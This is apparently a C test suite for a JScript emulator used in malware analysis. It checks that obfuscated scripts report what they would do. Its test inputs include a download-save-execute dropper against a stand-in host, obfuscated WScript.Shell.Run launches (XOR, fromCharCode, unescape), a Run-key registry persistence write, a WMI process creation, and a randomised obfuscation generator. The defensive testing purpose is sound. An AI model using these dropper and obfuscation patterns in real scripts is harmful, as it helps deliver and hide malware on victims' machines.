/* test_jscript.c - what scripts would do: each case is a script and the acts and layers it tells.
 */
#include "jscript/jscript.h"

#include "base/mem.h"

#include <stdio.h>
#include <stdlib.h>

/* clang-format off */
#include <setjmp.h>
#include <stdarg.h>
#include <cmocka.h>
/* clang-format on */

struct told {
    struct hn_buf text; /* a line per act and layer */
    struct script_run *run;
};

static void on_act(void *ctx, const struct script_act *act)
{
    struct told *told = ctx;

    if (act->kind == SCRIPT_ACT_COM)
        return;
    hn_buf_addf(&told->text, "%s%s", script_act_id(act->kind), act->conditional ? "?" : "");
    for (size_t i = 0; i < act->field_count; i++) {
        if (hn_text_ends(hn_text_cstr(act->fields[i].name), HN_TEXT("Image")) ||
                hn_text_eq(hn_text_cstr(act->fields[i].name), HN_TEXT("Sha256")))
            continue; /* they follow from the command line and the layer */
        hn_buf_addf(&told->text, " %s=", act->fields[i].name);
        hn_buf_add_text(&told->text, script_text_flat(told->run, act->fields[i].value));
    }
    hn_buf_add_char(&told->text, '\n');
}

static void on_layer(void *ctx, const struct script_layer *layer)
{
    struct told *told = ctx;

    hn_buf_addf(&told->text, "layer %s %s: ", script_language_id(layer->language), layer->how);
    hn_buf_add_text(&told->text, script_text_flat(told->run, layer->text));
    hn_buf_add_char(&told->text, '\n');
}

static enum script_stop evaluate(
        struct hn_text code, const struct script_limits *limits, struct told *told)
{
    struct script_sink sink = { .ctx = told, .on_act = on_act, .on_layer = on_layer };
    struct script_part part = { .text = code };
    struct script_source source = { .language = SCRIPT_JSCRIPT,
        .parts = &part,
        .part_count = 1,
        .file_name = HN_TEXT("C:\\Users\\user\\Downloads\\a.js") };
    struct script_run run;
    enum hn_status status;

    script_run_init(&run, limits, &sink);
    told->run = &run;
    status = jscript_evaluate(&run, &source, NULL);
    assert_true(status == HN_OK || status == HN_NOMEM);
    told->run = NULL;
    script_run_deinit(&run);
    return run.stop;
}

#define RUN(what) "var s = new ActiveXObject('WScript.Shell'); s.Run(" what ");"
#define RAN(what) "process CommandLine=" what "\nlayer command WScript.Shell.Run: " what "\n"

static const struct {
    const char *code;
    const char *wanted; /* all of it, in order */
} cases[] = {
    { RUN("'calc.exe'"), RAN("calc.exe") },
    { "new ActiveXObject('WScr'+'ipt.Shell')['R'+'un']('a' + 1 + 2)", RAN("a12") },
    { RUN("String.fromCharCode(99,97,108,99)"), RAN("calc") },
    /* What nobody set is undefined, on functions too: decoders ask whether they have begun. */
    { "function f() {} " RUN("f.begun === undefined ? 'first' : 'later'"), RAN("first") },
    { "String.prototype.rot = function () { return this.split('').reverse().join(''); }; " RUN(
              "'clac'.rot()"),
            RAN("calc") },
    { "var x = 'outer'; function f() { var t = typeof x; var x = 1; return t; } " RUN("f()"),
            RAN("undefined") },
    { "function f(a, b) { return this.c + a + b; } var g = f.bind({ c: 'c' }, 'a'); " RUN(
              "g('lc')"),
            RAN("calc") },
    { RUN("Array.prototype.map.call('bz', function (c) { return c.charCodeAt(0); }).join('-')"),
            RAN("98-122") },
    { RUN("(function (a) { return a; }).toString()"), RAN("function (a) { return a; }") },
    { "var o = { z: 'c', a: 'a', m: 'lc' }, r = ''; for (var k in o) r += o[k]; " RUN("r"),
            RAN("calc") },
    { "var e = new Enumerator(['ca', 'lc']), r = ''; for (; !e.atEnd(); e.moveNext()) r += "
      "e.item(); " RUN("r"),
            RAN("calc") },
    { RUN("encodeURIComponent('/a b')"), RAN("%2Fa%20b") },
    { "/(l.)/.exec('calc'); " RUN("'ca' + RegExp.$1"), RAN("calc") },
    { "function deep() { return deep(); } try { deep(); } catch (e) { " RUN("'caught'") " }",
            RAN("caught") },
    { RUN("'clac'.split('').reverse().join('')"), RAN("calc") },
    { RUN("'c-a-l-c'.split('-').join('')"), RAN("calc") },
    { RUN("'cXaXlXc'.replace(/X/g, '')"), RAN("calc") },
    { RUN("'cXalc'.replace('X', '')"), RAN("calc") },
    { RUN("unescape('%63%61%6c%63%u706b')"), RAN("calc\xE7\x81\xAB") },
    { RUN("'\\x63\\u0061l\\143'"), RAN("calc") },
    { RUN("eval('\"ca\" + \"lc\"')"), "layer jscript eval: \"ca\" + \"lc\"\n" RAN("calc") },
    { "var a = [99,97,108,99], r = ''; for (var i = 0; i < a.length; i++) { r += "
      "String.fromCharCode(a[i]); } " RUN("r"),
            RAN("calc") },
    { "var r = '', k = 7, d = 'dfkd'; for (var i in d.split('')) r += "
      "String.fromCharCode(d.charCodeAt(i) ^ k);" RUN("r"),
            RAN("calc") },
    { "function f(x) { return x.substr(1, 4); } " RUN("f('xcalcx')"), RAN("calc") },
    { "var o = { k: 'ca', m: function () { return this.k + 'lc'; } }; " RUN("o.m()"), RAN("calc") },
    { "function C() { this.v = 'ca'; } C.prototype.get = function () { return this.v + 'lc' }; "
      "var c = new C();" RUN("c.get()"),
            RAN("calc") },
    { "var f = Function; " RUN("new f('a', 'return a + \"lc\"')('ca')"),
            "layer jscript Function: return a + \"lc\"\n" RAN("calc") },
    { "try { nothing(); } catch (e) { " RUN("'calc'") " }", RAN("calc") },
    { "switch (2) { case 1: " RUN("'no'") " break; case 2: " RUN("'calc'") " break; default: " RUN(
              "'no'") " }",
            RAN("calc") },
    { "var i = 0; do { i++; if (i == 3) continue; if (i > 4) break; } while (true); " RUN(
              "'n' + i"),
            RAN("n5") },
    { "out: for (;;) { for (;;) { break out; } } " RUN("'calc'"), RAN("calc") },
    { RUN("[1,2,3].map(function (x) { return x * 2; }).join('')"), RAN("246") },
    { RUN("(1 ? 'a' : 'b') + (0 || 'c') + (1 && 'd') + typeof x + (5).toString(2)"),
            RAN("acdundefined101") },
    { RUN("parseInt('ff', 16) + '' + parseInt('0x10') + ('0x1f' | 0) + (7 >>> 1) + (-1 >>> 28)"),
            RAN("255"
                "16"
                "31"
                "3"
                "15") },
    { RUN("`a${1 + 1}b`"), RAN("a2b") },
    { "const g = (a, b) => a + b; let h = x => x + '!'; " RUN("h(g('ca', 'lc'))"), RAN("calc!") },
    { RUN("'abc'[1] + 'abcdef'.slice(-2) + 'abc'.charAt(0) + 'x,y'.split(',')[1]"), RAN("befay") },
    { RUN("'a1b22'.match(/[0-9]+/g).join('-') + /b(.)/.exec('ab7')[1]"), RAN("1-227") },
    { RUN("'ab'.replace(/(a)(b)/, '$2$1') + 'aa'.replace(/a/g, function (m) { return m + '.'; })"),
            RAN("baa.a.") },
    { "var h = new ActiveXObject('MSXML2.XMLHTTP'); h.open('GET', 'http://a.example/x.exe', "
      "false); "
      "h.send(); if (h.status == 200) { var t = new ActiveXObject('ADODB.Stream'); t.Open(); "
      "t.Type = "
      "1; t.Write(h.responseBody); var p = new "
      "ActiveXObject('WScript.Shell').ExpandEnvironmentStrings('%TEMP%') + '\\\\x.exe'; "
      "t.SaveToFile(p, 2); new ActiveXObject('Shell.Application').ShellExecute(p, '', '', 'open', "
      "0); "
      "}",
            "http_request Url=http://a.example/x.exe Method=GET\n"
            "file_write TargetFilename=%TEMP%\\x.exe Url=http://a.example/x.exe\n"
            "process CommandLine=%TEMP%\\x.exe\n"
            "layer command Shell.Application.ShellExecute: %TEMP%\\x.exe\n" },
    { "var d = new ActiveXObject('Scripting.Dictionary'); d.Add('a', [1]); d('b') = 'x'; "
      "d.Item('c') = 2; " RUN("d('a')[0] + d.Item('b') + d('c') + d.Count + d.Keys().join('')"),
            RAN("1x23abc") },
    { "var e = new ActiveXObject('WScript.Shell').Environment('PROCESS'); e('q') = 'calc'; " RUN(
              "'%q%'"),
            RAN("calc") },
    { RUN("new ActiveXObject('Scripting.FileSystemObject').GetSpecialFolder(2) + '\\\\a.exe'"),
            RAN("%TEMP%\\a.exe") },
    { "var f = new ActiveXObject('Scripting.FileSystemObject').CreateTextFile('C:\\\\a.ps1', "
      "true); "
      "f.Write('Write-'); f.WriteLine('Host 1'); f.Close();",
            "file_write TargetFilename=C:\\a.ps1\nlayer powershell TextStream.Write: Write-Host "
            "1\r\n\n" },
    { "GetObject('winmgmts:root\\\\cimv2').Get('Win32_Process').Create('calc', null, null, 0);",
            "wmi_call Class=Win32_Process Method=Create Arguments=calc\n"
            "process CommandLine=calc\nlayer command Win32_Process.Create: calc\n" },
    { "var d = new ActiveXObject('Microsoft.XMLDOM').createElement('e'); d.dataType = "
      "'bin.base64'; "
      "d.text = 'Y2FsYw=='; " RUN("d.nodeTypedValue"),
            RAN("calc") },
    { "if (new Date().getTime() % 2) { " RUN("'a'") " } else { " RUN("'b'") " }",
            "process? CommandLine=a\nlayer command WScript.Shell.Run: a\n"
            "process? CommandLine=b\nlayer command WScript.Shell.Run: b\n" },
    { "function never() { " RUN("'calc'") " }",
            "process? CommandLine=calc\nlayer command WScript.Shell.Run: calc\n" },
    { "document.write('<b>' + unescape('%3Cscript%3E'));",
            "layer html document.write: <b><script>\n" },
    { "window.location = 'http://a.example/' + 'b';", "http_request Url=http://a.example/b\n" },
    { "location.href = 'http://a.example/';", "http_request Url=http://a.example/\n" },
    { "setTimeout(\"" RUN("'calc'") "\", 10)",
            "layer jscript setTimeout: " RUN("'calc'") "\n" RAN("calc") },
    { "/*@cc_on " RUN("'calc'") " @*/", RAN("calc") },
    { "var = ; ) } " RUN("'calc'"), RAN("calc") },
    { "WScript.CreateObject('WScript.Shell').Exec('calc').StdOut.ReadAll();",
            "process CommandLine=calc\nlayer command WScript.Shell.Exec: calc\n" },
    { "new ActiveXObject('WScript.Shell').RegWrite('HKCU\\\\Run\\\\a', 'b', 'REG_SZ');",
            "registry_write TargetObject=HKCU\\Run\\a Details=b\n" },
    { "with (new ActiveXObject('WScript.Shell')) { Run('calc'); }", RAN("calc") },
};

static void scripts_tell_what_they_would_do(void **state)
{
    (void)state;
    for (size_t i = 0; i < HN_COUNT_OF(cases); i++) {
        struct told told = { { 0 }, NULL };

        (void)evaluate(hn_text_cstr(cases[i].code), NULL, &told);
        if (!hn_text_eq(hn_buf_text(&told.text), hn_text_cstr(cases[i].wanted)))
            fail_msg("%s\nwanted:\n%s\ntold:\n%.*s", cases[i].code, cases[i].wanted,
                    (int)told.text.len, told.text.len > 0 ? told.text.ptr : "");
        hn_buf_deinit(&told.text);
    }
}

/* ---- A property: whatever hides a command, it comes out as it went in ---- */

static uint32_t next(uint32_t *seed)
{
    *seed = *seed * 1664525u + 1013904223u;
    return *seed >> 8;
}

/* An expression whose value is text: a literal cut, coded, reversed, replaced. */
static void hide(struct hn_buf *out, uint32_t *seed, const char *text, size_t len, int depth)
{
    uint32_t way = len < 2 || depth > 3 ? 0 : next(seed) % 7;

    switch (way) {
    case 1:
        hn_buf_add_char(out, '(');
        hide(out, seed, text, len / 2, depth + 1);
        hn_buf_add_lit(out, "+");
        hide(out, seed, text + len / 2, len - len / 2, depth + 1);
        hn_buf_add_char(out, ')');
        return;
    case 2:
        hn_buf_add_lit(out, "String.fromCharCode(");
        for (size_t i = 0; i < len; i++)
            hn_buf_addf(out, "%s%u", i > 0 ? "," : "", (unsigned)(uint8_t)text[i]);
        hn_buf_add_char(out, ')');
        return;
    case 3:
        hn_buf_add_char(out, '\'');
        for (size_t i = len; i-- > 0;)
            hn_buf_addf(out, "\\x%02x", (unsigned)(uint8_t)text[i]);
        hn_buf_add_lit(out, "'.split('').reverse().join('')");
        return;
    case 4:
        hn_buf_add_lit(out, "unescape('");
        for (size_t i = 0; i < len; i++)
            hn_buf_addf(out, "%%%02x", (unsigned)(uint8_t)text[i]);
        hn_buf_add_lit(out, "')");
        return;
    case 5: {
        unsigned key = next(seed) % 31 + 1;

        hn_buf_addf(out,
                "(function(a){var r='';for(var i=0;i<a.length;i++)r+=String.fromCharCode("
                "a[i]^%u);return r;})([",
                key);
        for (size_t i = 0; i < len; i++)
            hn_buf_addf(out, "%s%u", i > 0 ? "," : "", (unsigned)(uint8_t)text[i] ^ key);
        hn_buf_add_lit(out, "])");
        return;
    }
    case 6:
        hn_buf_add_char(out, '\'');
        for (size_t i = 0; i < len; i++)
            hn_buf_addf(out, "\\u%04x~~", (unsigned)(uint8_t)text[i]);
        hn_buf_add_lit(out, "'.replace(/~~/g,'')");
        return;
    default:
        hn_buf_add_char(out, '\'');
        for (size_t i = 0; i < len; i++) {
            if (text[i] == '\'' || text[i] == '\\')
                hn_buf_add_char(out, '\\');
            hn_buf_add_char(out, text[i]);
        }
        hn_buf_add_char(out, '\'');
        return;
    }
}

static void hidden_commands_come_out(void **state)
{
    (void)state;
    for (uint32_t n = 0; n < 2000; n++) {
        uint32_t seed = n * 7919 + 1;
        struct told told = { { 0 }, NULL };
        struct hn_buf code = { 0 };
        struct hn_buf wanted = { 0 };
        char command[96];
        int len = snprintf(command, sizeof command,
                "cmd /c echo http://h%u.example/p%u.php?q='%u'\\x", (unsigned)next(&seed) % 1000,
                (unsigned)next(&seed), (unsigned)n);

        hn_buf_add_lit(&code, "var q=");
        hide(&code, &seed, command, (size_t)len, 0);
        hn_buf_add_lit(&code, ";function z(){return q;}var w=new ActiveXObject(");
        hide(&code, &seed, "WScript.Shell", 13, 0);
        hn_buf_add_lit(&code, ");w[");
        hide(&code, &seed, "Run", 3, 0);
        hn_buf_add_lit(&code, "](z(),0);");
        hn_buf_addf(&wanted, RAN("%s"), command, command);
        (void)evaluate(hn_buf_text(&code), NULL, &told);
        if (!hn_text_eq(hn_buf_text(&told.text), hn_buf_text(&wanted)))
            fail_msg("seed %u: %.*s\ntold: %.*s", n, (int)code.len, code.ptr, (int)told.text.len,
                    told.text.len > 0 ? told.text.ptr : "");
        hn_buf_deinit(&wanted);
        hn_buf_deinit(&code);
        hn_buf_deinit(&told.text);
    }
}

/* ---- Limits ---- */

static void endless_scripts_end(void **state)
{
    static const char *const endless[] = {
        "for (;;) ;",
        "while (true) { x = 1; }",
        "var s = 'a'; while (true) s += s;",
        "function f() { f(); } f();",
        "function g(x) { return eval('g(1)'); } g(0);",
        "var a = []; while (1) a.push(a);",
        "var a = ['x']; while (1) a = a.concat(a);",
        "eval(x = \"eval(x)\");",
        "/(a+)+$/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!');",
        "var a = []; a[0] = a; '' + a;",
    };

    (void)state;
    for (size_t i = 0; i < HN_COUNT_OF(endless); i++) {
        struct told told = { { 0 }, NULL };

        (void)evaluate(hn_text_cstr(endless[i]), NULL, &told);
        hn_buf_deinit(&told.text);
    }
}

/* Brackets without end, each way round: the parser gives up, not the stack. */
/* Methods of methods, as deep as a loop makes them, end without the stack. */
static void deep_methods_end(void **state)
{
    static const char *const codes[] = {
        "var f = eval; for (var i = 0; i < 50000; i++) f = f.call; f(1);",
        "var f = eval; for (var i = 0; i < 50000; i++) f = f.bind(1); f(1);",
        "var o = {}; for (var i = 0; i < 50000; i++) { var p = [o]; o = p; } '' + o;",
    };

    (void)state;
    for (size_t i = 0; i < HN_COUNT_OF(codes); i++) {
        struct told told = { 0 };

        (void)evaluate(hn_text_cstr(codes[i]), NULL, &told);
        hn_buf_deinit(&told.text);
    }
}

static void deep_syntax_ends(void **state)
{
    static const char *const pieces[] = { "(", "[", "{", "!", "a?", "function(){", "a.", "new ",
        "if(a)", "`${", "x=", "a=>", "-" };

    (void)state;
    for (size_t i = 0; i < HN_COUNT_OF(pieces); i++) {
        struct told told = { { 0 }, NULL };
        struct hn_buf code = { 0 };

        for (int k = 0; k < 20000; k++)
            hn_buf_add_cstr(&code, pieces[i]);
        (void)evaluate(hn_buf_text(&code), NULL, &told);
        hn_buf_deinit(&code);
        hn_buf_deinit(&told.text);
    }
}

static void every_truncation_is_survived(void **state)
{
    static const char code[] =
            "var a = {k: [1, 'x\\u0041', /[a\\]]/g, `t${1}`], f: function (b) { return "
            "b ? this.k : -1; }}; for (var i in a) { try { a.f(i)[0]++; } catch (e) { "
            "throw e; } finally { } } switch (a) { case 1: break; } // end";

    (void)state;
    for (size_t len = 0; len <= sizeof code - 1; len++) {
        struct told told = { { 0 }, NULL };
        char *copy = malloc(len + 1);

        memcpy(copy, code, len);
        (void)evaluate(hn_text_of(copy, len), NULL, &told);
        free(copy);
        hn_buf_deinit(&told.text);
    }
}

static void every_allocation_may_fail(void **state)
{
    (void)state;
    for (uint64_t n = 1;; n++) {
        struct told told = { { 0 }, NULL };
        uint64_t hits;

        hn_mem_fail_from(n);
        (void)evaluate(HN_TEXT("var a = []; for (var i = 0; i < 400; i++) a.push('x' + i); "
                               "a.join('').replace(/x/g, 'y').split('y').reverse(); "
                               "eval('1+1'); new ActiveXObject('WScript.Shell').Run(a[3]);"),
                NULL, &told);
        hits = hn_mem_fail_hits();
        hn_mem_fail_from(0);
        hn_buf_deinit(&told.text);
        if (hits == 0)
            break;
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(scripts_tell_what_they_would_do),
        cmocka_unit_test(hidden_commands_come_out),
        cmocka_unit_test(endless_scripts_end),
        cmocka_unit_test(deep_methods_end),
        cmocka_unit_test(deep_syntax_ends),
        cmocka_unit_test(every_truncation_is_survived),
        cmocka_unit_test(every_allocation_may_fail),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
